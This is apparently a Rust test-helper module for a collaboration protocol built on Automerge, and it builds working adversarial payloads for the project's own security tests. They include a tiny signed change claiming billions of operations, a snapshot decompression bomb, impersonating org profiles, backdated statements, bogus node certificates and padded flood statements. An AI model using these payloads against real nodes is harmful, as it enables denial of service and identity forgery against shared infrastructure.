//! Payloads no honest node sends: each one is valid where it has to be (signature, checksum,
//! framing) to get past the cheap checks and reach the expensive or dangerous code behind them.
//!
//! The Automerge binary format is documented at
//! <https://alexjg.github.io/automerge-storage-docs/> and mirrored in
//! `protocol/src/signed/precheck.rs`: a chunk is magic, a 4-byte checksum, a type byte, a LEB128
//! body length and the body; its hash is SHA-256 over type, length and body, and the checksum is
//! the hash's first 4 bytes.

use allmenning_protocol::artefact::{origin, ArtefactId};
use allmenning_protocol::signed::{self, Proof};
use allmenning_protocol::trust::{
    EndorsementStatus, InitiativeId, InitiativeStatus, ProposedChange, Scope, SignedStatement,
    Statement,
};
use allmenning_protocol::wire::{Head, Request, WireBlob, WireChange};
use allmenning_protocol::{BlobHash, ChangeHash, NodeKey, OrgKind, OrgNumber, PublicKey};
use automerge::transaction::{CommitOptions, Transactable};
use automerge::{Automerge, ROOT};
use sha2::{Digest, Sha256};

const MAGIC: [u8; 4] = [0x85, 0x6f, 0x4a, 0x83];
const CHUNK_DOCUMENT: u8 = 0;
const CHUNK_CHANGE: u8 = 1;

/// A string no test data contains by accident: `ADVERSARY-<label>-<16 random hex digits>`.
/// Grep a victim's home for it to see whether anything of the attack was stored.
pub fn marker(label: &str) -> String {
    format!(
        "ADVERSARY-{label}-{}",
        &crate::to_hex(&crate::random_secret())[..16]
    )
}

/// Seconds since the Unix epoch (statements carry the signer's time).
pub fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or(0)
}

// ---------------------------------------------------------------------------------------------
// CPU bomb: a small change whose op columns claim billions of operations
// ---------------------------------------------------------------------------------------------

/// A signed change of about 100 bytes that claims `ops` operations: a real one-operation change
/// (`put(ROOT, "k", true)`, by a signed actor of `key`) whose every op column is rewritten as
/// one run of `ops` identical rows, with `deps` as its dependencies. Its op counters and actor
/// indices stay small, so automerge 0.12 decodes it without panicking, row by row; its hash,
/// checksum and signature are right, so it passes every check that looks only at the header.
/// Returns the change as it travels and its hash.
pub fn cpu_bomb_change(key: &NodeKey, deps: &[ChangeHash], ops: u64) -> (WireChange, ChangeHash) {
    assert!(ops >= 1);
    let mut nonce = [0u8; 8];
    nonce.copy_from_slice(&crate::random_secret()[..8]);
    let mut doc = Automerge::new().with_actor(signed::signed_actor(&key.public(), nonce));
    doc.transact_with(
        |_| CommitOptions::default().with_time(now()),
        |tx| tx.put(ROOT, "k", true),
    )
    .expect("a one-op change");
    let one = doc
        .get_changes(&[])
        .pop()
        .expect("the change")
        .raw_bytes()
        .to_vec();
    let mut parts = ChangeParts::parse(&one);
    parts.deps = deps.to_vec();
    for (spec, data) in &mut parts.columns {
        *data = repeat_column(*spec, data, ops);
    }
    let bytes = chunk(CHUNK_CHANGE, &parts.body());
    let hash = chunk_hash(&bytes);
    (
        WireChange {
            proof: signed::sign_change(key, &hash),
            bytes,
        },
        hash,
    )
}

/// A change chunk's body, split where the bomb rewrites it.
struct ChangeParts {
    deps: Vec<ChangeHash>,
    /// Actor, seq, start op, time, message and other actors, as they were.
    middle: Vec<u8>,
    columns: Vec<(u32, Vec<u8>)>,
    extra: Vec<u8>,
}

impl ChangeParts {
    fn parse(chunk_bytes: &[u8]) -> ChangeParts {
        let mut r = Reader::new(chunk_bytes);
        assert_eq!(r.take(4), MAGIC, "a change chunk");
        r.take(4);
        assert_eq!(r.byte(), CHUNK_CHANGE, "an uncompressed change chunk");
        let len = r.uleb();
        let body = r.take(len as usize);
        let mut r = Reader::new(body);
        let deps = (0..r.uleb())
            .map(|_| ChangeHash(r.take(32).try_into().unwrap()))
            .collect();
        let start = r.pos;
        let actor = r.uleb();
        r.take(actor as usize);
        r.uleb(); // seq
        r.uleb(); // start op
        r.sleb(); // time
        let message = r.uleb();
        r.take(message as usize);
        for _ in 0..r.uleb() {
            let other = r.uleb();
            r.take(other as usize);
        }
        let middle = body[start..r.pos].to_vec();
        let specs: Vec<(u32, u64)> = (0..r.uleb()).map(|_| (r.uleb() as u32, r.uleb())).collect();
        let columns = specs
            .into_iter()
            .map(|(spec, len)| (spec, r.take(len as usize).to_vec()))
            .collect();
        let extra = r.rest().to_vec();
        ChangeParts {
            deps,
            middle,
            columns,
            extra,
        }
    }

    fn body(&self) -> Vec<u8> {
        let mut out = Vec::new();
        uleb(&mut out, self.deps.len() as u64);
        for d in &self.deps {
            out.extend_from_slice(&d.0);
        }
        out.extend_from_slice(&self.middle);
        uleb(&mut out, self.columns.len() as u64);
        for (spec, data) in &self.columns {
            uleb(&mut out, u64::from(*spec));
            uleb(&mut out, data.len() as u64);
        }
        for (_, data) in &self.columns {
            out.extend_from_slice(data);
        }
        out.extend_from_slice(&self.extra);
        out
    }
}

/// Column types: the low three bits of a column specification.
const GROUP: u32 = 0;
const ACTOR: u32 = 1;
const INTEGER: u32 = 2;
const DELTA: u32 = 3;
const BOOLEAN: u32 = 4;
const STRING: u32 = 5;
const VALUE_METADATA: u32 = 6;
const VALUE_RAW: u32 = 7;

/// Rewrites a column holding one row as `n` copies of that row.
fn repeat_column(spec: u32, data: &[u8], n: u64) -> Vec<u8> {
    let mut out = Vec::new();
    if data.is_empty() {
        return out; // absent or all-null columns stay so
    }
    let mut r = Reader::new(data);
    match spec & 0b111 {
        GROUP | ACTOR | INTEGER | DELTA | STRING | VALUE_METADATA => {
            // Run-length encoded: a literal run of one value (-1, value), a run (k, value), or
            // a null run (0, count).
            let run = r.sleb();
            if run == 0 {
                assert_eq!(r.uleb(), 1, "a column of one row");
                out.push(0);
                uleb(&mut out, n);
            } else {
                let value = r.rest();
                if spec & 0b111 == DELTA {
                    // n copies of a nonzero delta would count up past an op id's range.
                    assert_eq!(
                        value,
                        [0],
                        "a delta column of the one-op change is zero or null"
                    );
                }
                sleb(&mut out, i64::try_from(n).expect("at most 2^63 rows"));
                out.extend_from_slice(value);
            }
        }
        BOOLEAN => {
            // Alternating counts, starting with false: [1] is one false, [0, 1] one true.
            let mut counts = Vec::new();
            while !r.done() {
                counts.push(r.uleb());
            }
            *counts.last_mut().unwrap() = n;
            for c in counts {
                uleb(&mut out, c);
            }
        }
        VALUE_RAW => panic!("the one-op change's value has no raw bytes (it is `true`)"),
        _ => unreachable!(),
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Decompression bomb: a snapshot whose deflated column inflates to gigabytes
// ---------------------------------------------------------------------------------------------

/// A document chunk (what `Automerge::save` writes, the start of every snapshot) with one
/// deflated change column that inflates to `inflated_bytes` (rounded up to whole MiB) of zeros,
/// from about `inflated_bytes / 1000` bytes. Automerge inflates compressed columns while it
/// parses the chunk, before it checks anything the columns say; this one then fails to load
/// with an error ("bad column layout"), not a panic. `marker` is the data of a second,
/// uncompressed column, so that a victim storing the chunk can be caught by grepping for it.
pub fn snapshot_bomb(inflated_bytes: u64, marker: &[u8]) -> Vec<u8> {
    let deflated = deflated_zeros(inflated_bytes);
    let mut body = Vec::new();
    uleb(&mut body, 0); // actors (an unused actor makes automerge 0.12 panic, not inflate)
    uleb(&mut body, 0); // heads
    uleb(&mut body, 2); // change columns, in normal order:
    uleb(&mut body, 0b1000 | u64::from(ACTOR)); // id 0, actor ids, deflated (bit 3)
    uleb(&mut body, deflated.len() as u64);
    uleb(&mut body, (15 << 4) | u64::from(VALUE_RAW)); // id 15, raw bytes: the marker
    uleb(&mut body, marker.len() as u64);
    uleb(&mut body, 0); // op columns: none
    body.extend_from_slice(&deflated);
    body.extend_from_slice(marker);
    chunk(CHUNK_DOCUMENT, &body)
}

/// A raw deflate stream of `n` zero bytes (rounded up to whole MiB): the compressed form of
/// 1 MiB of zeros, ending on a byte boundary (a sync flush), repeated, then an empty final
/// block. Each copy only refers back to zeros, so the copies chain.
pub fn deflated_zeros(n: u64) -> Vec<u8> {
    const SEGMENT: usize = 1 << 20;
    let mut compress = flate2::Compress::new(flate2::Compression::best(), false);
    let mut segment = Vec::with_capacity(64 << 10);
    compress
        .compress_vec(
            &vec![0u8; SEGMENT],
            &mut segment,
            flate2::FlushCompress::Sync,
        )
        .expect("deflate");
    assert_eq!(
        compress.total_in(),
        SEGMENT as u64,
        "one call deflates the segment"
    );
    let copies = n.div_ceil(SEGMENT as u64).max(1) as usize;
    let mut out = Vec::with_capacity(segment.len() * copies + 2);
    for _ in 0..copies {
        out.extend_from_slice(&segment);
    }
    // BFINAL=1, BTYPE=01 (fixed Huffman), end-of-block: the empty last block.
    out.extend_from_slice(&[0x03, 0x00]);
    out
}

// ---------------------------------------------------------------------------------------------
// Unsigned origin changes
// ---------------------------------------------------------------------------------------------

/// The origin change that turns `text` into co-editable text at `path`, with its
/// `Proof::Origin` (no signature: any node can recompute it) and the blob it is made from,
/// which a `Changes` or `Snapshot` response carries in `origin_blobs`. Honest nodes make these
/// when someone first edits a file; an adversary can make one for any path and any text.
pub fn origin_change(path: &str, text: &str) -> (WireChange, WireBlob, ChangeHash) {
    let blob = BlobHash::of(text.as_bytes());
    let change = origin::origin_change(path, &blob, text).expect("origin change");
    (
        WireChange {
            bytes: change.raw_bytes().to_vec(),
            proof: Proof::Origin {
                path: path.to_string(),
                blob,
            },
        },
        WireBlob(text.as_bytes().to_vec()),
        change.hash(),
    )
}

// ---------------------------------------------------------------------------------------------
// Statements
// ---------------------------------------------------------------------------------------------

/// `body`, signed by `key` now.
pub fn statement(key: &NodeKey, body: Statement) -> SignedStatement {
    SignedStatement::sign(body, key, now())
}

/// A self-signed organisation profile: any name (e.g. "Bergen kommune", padded to 30 KiB) for
/// any organisation number, signed by the key it announces.
pub fn org_profile(org_key: &NodeKey, number: &str, name: &str, kind: OrgKind) -> SignedStatement {
    statement(
        org_key,
        Statement::OrgProfile {
            org: OrgNumber::parse(number).expect("a valid organisation number"),
            name: name.to_string(),
            kind,
            org_key: org_key.public(),
        },
    )
}

/// A proposal of `changes` to `artefact` at `base`, signed by `key` (a member's node key, or
/// the proposal is not shown to anyone).
pub fn proposal(
    key: &NodeKey,
    artefact: ArtefactId,
    base: &[ChangeHash],
    changes: &[(WireChange, ChangeHash)],
    message: &str,
) -> SignedStatement {
    statement(
        key,
        Statement::Propose {
            artefact,
            base: base.iter().map(|h| Head(h.0)).collect(),
            hashes: changes.iter().map(|(_, h)| Head(h.0)).collect(),
            changes: changes
                .iter()
                .map(|(c, _)| ProposedChange {
                    bytes: c.bytes.clone(),
                    proof: c.proof.clone(),
                })
                .collect(),
            message: message.to_string(),
            blobs: Vec::new(),
        },
    )
}

/// A request pushing `statements` to a peer.
pub fn offer(statements: &[SignedStatement]) -> Request {
    Request::Offer {
        statements: statements.iter().map(|s| WireBlob(s.encode())).collect(),
    }
}

// ---------------------------------------------------------------------------------------------
// Chunks and LEB128
// ---------------------------------------------------------------------------------------------

/// A chunk: magic, checksum, type, body length, body.
pub fn chunk(chunk_type: u8, body: &[u8]) -> Vec<u8> {
    let mut hashed = vec![chunk_type];
    uleb(&mut hashed, body.len() as u64);
    hashed.extend_from_slice(body);
    let hash = Sha256::digest(&hashed);
    let mut out = MAGIC.to_vec();
    out.extend_from_slice(&hash[..4]);
    out.extend_from_slice(&hashed);
    out
}

/// The hash of a chunk (a change's hash): SHA-256 over type, body length and body.
pub fn chunk_hash(chunk_bytes: &[u8]) -> ChangeHash {
    ChangeHash(Sha256::digest(&chunk_bytes[8..]).into())
}

fn uleb(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

fn sleb(out: &mut Vec<u8>, mut v: i64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        let done = (v == 0 && byte & 0x40 == 0) || (v == -1 && byte & 0x40 != 0);
        if done {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

/// A cursor over bytes we wrote ourselves (or automerge did): panics on anything unexpected.
struct Reader<'a> {
    data: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    fn new(data: &'a [u8]) -> Self {
        Reader { data, pos: 0 }
    }
    fn done(&self) -> bool {
        self.pos >= self.data.len()
    }
    fn byte(&mut self) -> u8 {
        self.pos += 1;
        self.data[self.pos - 1]
    }
    fn take(&mut self, n: usize) -> &'a [u8] {
        self.pos += n;
        &self.data[self.pos - n..self.pos]
    }
    fn rest(&mut self) -> &'a [u8] {
        let rest = &self.data[self.pos..];
        self.pos = self.data.len();
        rest
    }
    fn uleb(&mut self) -> u64 {
        let (mut v, mut shift) = (0u64, 0);
        loop {
            let b = self.byte();
            v |= u64::from(b & 0x7f) << shift;
            shift += 7;
            if b & 0x80 == 0 {
                return v;
            }
        }
    }
    fn sleb(&mut self) -> i64 {
        let (mut v, mut shift) = (0i64, 0);
        loop {
            let b = self.byte();
            v |= i64::from(b & 0x7f) << shift;
            shift += 7;
            if b & 0x80 == 0 {
                if shift < 64 && b & 0x40 != 0 {
                    v |= !0 << shift;
                }
                return v;
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Trust statements of issue 10's findings 4 to 7 and 9: dated at will, certificates, floods
// ---------------------------------------------------------------------------------------------

/// `body`, signed by `key` with `time` as its date (seconds since the Unix epoch): the signer
/// writes whatever date it likes into a statement.
pub fn statement_at(key: &NodeKey, body: Statement, time: i64) -> SignedStatement {
    SignedStatement::sign(body, key, time)
}

/// A certificate, signed by `org_key`, saying `node_key` is a node of organisation `org`.
///
/// The one place the tests build a `NodeCert`. Once a certificate needs the node key's own
/// proof of possession (issue 10, finding 7), an organisation that does not hold the node key
/// can only put a bogus proof here: add that field (e.g. `possession: vec![0; 64]`) and nothing
/// else changes.
pub fn node_cert(
    org_key: &NodeKey,
    org: &str,
    node_key: PublicKey,
    label: &str,
) -> SignedStatement {
    statement(
        org_key,
        Statement::NodeCert {
            org: org_number(org),
            node_key,
            label: label.to_string(),
            // The node never consented: no proof of possession a node would accept.
            possession: vec![0; 64],
        },
    )
}

/// An endorsement of `artefact` at `heads`, signed by `key` and dated `time`.
pub fn endorsement_at(
    key: &NodeKey,
    artefact: ArtefactId,
    heads: &[ChangeHash],
    status: EndorsementStatus,
    note: &str,
    seq: u64,
    time: i64,
) -> SignedStatement {
    statement_at(
        key,
        Statement::Endorse {
            artefact,
            heads: heads.iter().map(|h| Head(h.0)).collect(),
            status,
            note: note.to_string(),
            seq,
        },
        time,
    )
}

/// An admission of organisation `org` (named `name`, with org key `org_key`), signed by `key`
/// and dated `time`.
pub fn admission_at(
    key: &NodeKey,
    org: &str,
    name: &str,
    kind: OrgKind,
    org_key: PublicKey,
    time: i64,
) -> SignedStatement {
    statement_at(
        key,
        Statement::Admit {
            org: org_number(org),
            name: name.to_string(),
            kind,
            org_key,
        },
        time,
    )
}

/// A delegation of curator `scopes` to organisation `org` (org key `org_key`) until `expires`,
/// signed by `root_key` and dated `time`.
pub fn delegation_at(
    root_key: &NodeKey,
    org: &str,
    org_key: PublicKey,
    scopes: &[Scope],
    expires: Option<i64>,
    time: i64,
) -> SignedStatement {
    statement_at(
        root_key,
        Statement::Delegate {
            org: org_number(org),
            org_key,
            scopes: scopes.to_vec(),
            expires,
        },
        time,
    )
}

/// An initiative of about `bytes` bytes, signed by `key` (anyone's: whether it counts is
/// decided when it is shown): a long description and as many made-up artefact links as it
/// takes.
pub fn padded_initiative(
    key: &NodeKey,
    captain: &str,
    title: &str,
    bytes: usize,
) -> SignedStatement {
    let description = "Vi bygger alt, for alle, straks. ".repeat(120);
    let mut id = [0u8; 16];
    id.copy_from_slice(&crate::random_secret()[..16]);
    let random_id = || {
        let mut a = [0u8; 16];
        a.copy_from_slice(&crate::random_secret()[..16]);
        ArtefactId(a)
    };
    let mut artefacts: Vec<ArtefactId> = Vec::new();
    loop {
        let signed = statement(
            key,
            Statement::Initiative {
                id: InitiativeId(id),
                captain: org_number(captain),
                title: title.to_string(),
                description: description.clone(),
                status: InitiativeStatus::Active,
                artefacts: artefacts.clone(),
                seq: 1,
            },
        );
        let short = bytes.saturating_sub(signed.encode().len());
        if short == 0 {
            return signed;
        }
        artefacts.extend((0..short.div_ceil(16)).map(|_| random_id()));
    }
}

/// A proposal to `artefact` of `bytes` bytes of junk presented as one signed change, signed by
/// `key`. Nobody checks the change until a maintainer reviews it, so it is stored as it is.
pub fn padded_proposal(key: &NodeKey, artefact: ArtefactId, bytes: usize) -> SignedStatement {
    let junk = format!("{}\n", marker("proposal")).repeat(bytes / 34 + 1);
    statement(
        key,
        Statement::Propose {
            artefact,
            base: Vec::new(),
            hashes: vec![Head(crate::random_secret())],
            changes: vec![ProposedChange {
                bytes: junk.into_bytes(),
                proof: Proof::Signed {
                    signature: vec![0; 64],
                },
            }],
            message: "Forbedringer".to_string(),
            blobs: Vec::new(),
        },
    )
}

/// The `n`th of a series of valid organisation numbers (mod-11 check digit right) that no
/// real organisation in the tests uses: 80000000x and up.
pub fn fake_org_number(n: u32) -> String {
    const WEIGHTS: [u32; 8] = [3, 2, 7, 6, 5, 4, 3, 2];
    let mut base = 80_000_000 + n * 16;
    loop {
        let digits: Vec<u32> = format!("{base:08}")
            .bytes()
            .map(|b| u32::from(b - b'0'))
            .collect();
        let sum: u32 = WEIGHTS.iter().zip(&digits).map(|(w, d)| w * d).sum();
        let check = match sum % 11 {
            0 => Some(0),
            1 => None,
            r => Some(11 - r),
        };
        if let Some(check) = check {
            let number = format!("{base:08}{check}");
            assert!(OrgNumber::parse(&number).is_ok(), "{number}");
            return number;
        }
        base += 1;
    }
}

/// A node or org key as the CLI prints it (64 hex digits).
pub fn public_key(hex: &str) -> PublicKey {
    PublicKey(
        crate::from_hex(hex)
            .try_into()
            .unwrap_or_else(|_| panic!("not a public key: {hex:?}")),
    )
}

fn org_number(number: &str) -> OrgNumber {
    OrgNumber::parse(number).unwrap_or_else(|e| panic!("{number}: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn the_cpu_bomb_is_a_valid_signed_change_of_as_many_ops_as_claimed() {
        let key = NodeKey::from_secret([3; 32]);
        let dep = ChangeHash([9; 32]);
        for ops in [1u64, 2, 1000] {
            let (wire, hash) = cpu_bomb_change(&key, &[dep], ops);
            let mut budget = signed::DecodeBudget::new(u64::MAX, u64::MAX);
            let change = signed::decode_change(wire.bytes.clone(), &mut budget)
                .expect("passes the node's precheck and decodes");
            assert_eq!(change.len() as u64, ops);
            assert_eq!(change.hash(), hash);
            assert_eq!(change.deps(), &[dep]);
            assert_eq!(
                signed::verify_change(&change, &wire.proof, |_| None),
                Ok(Some(key.public())),
                "signed by the adversary's key"
            );
        }
        // The real thing is as small, whatever it claims.
        let (big, _) = cpu_bomb_change(&key, &[], 1 << 40);
        assert!(big.bytes.len() < 200, "{} bytes", big.bytes.len());
    }

    #[test]
    fn deflated_zeros_inflate_to_the_size_asked_for() {
        let deflated = deflated_zeros(3 << 20);
        let mut inflated = Vec::new();
        flate2::read::DeflateDecoder::new(&deflated[..])
            .read_to_end(&mut inflated)
            .unwrap();
        assert_eq!(inflated.len(), 3 << 20);
        assert!(inflated.iter().all(|b| *b == 0));
        assert!(deflated.len() < 4 << 10, "{} bytes", deflated.len());
    }

    #[test]
    fn automerge_inflates_the_snapshot_bomb_while_parsing_it() {
        // A 64 MiB bomb raises this process's peak memory by at least that much.
        let before = peak_kb();
        let bomb = snapshot_bomb(64 << 20, b"marker");
        let result = Automerge::load(&bomb);
        let grown_mb = (peak_kb() - before) / 1024;
        assert!(
            grown_mb >= 60,
            "peak grew by {grown_mb} MB; result {result:?}"
        );
        assert!(result.is_err(), "and then it does not load");
    }

    fn peak_kb() -> i64 {
        std::fs::read_to_string("/proc/self/status")
            .unwrap()
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap()
    }

    #[test]
    fn an_origin_change_verifies_against_its_blob() {
        let (wire, blob, hash) = origin_change("README.md", "hei\n");
        let change = automerge::Change::from_bytes(wire.bytes.clone()).unwrap();
        assert_eq!(change.hash(), hash);
        assert_eq!(
            signed::verify_change(&change, &wire.proof, |_| Some(blob.0.clone())),
            Ok(None)
        );
    }
}
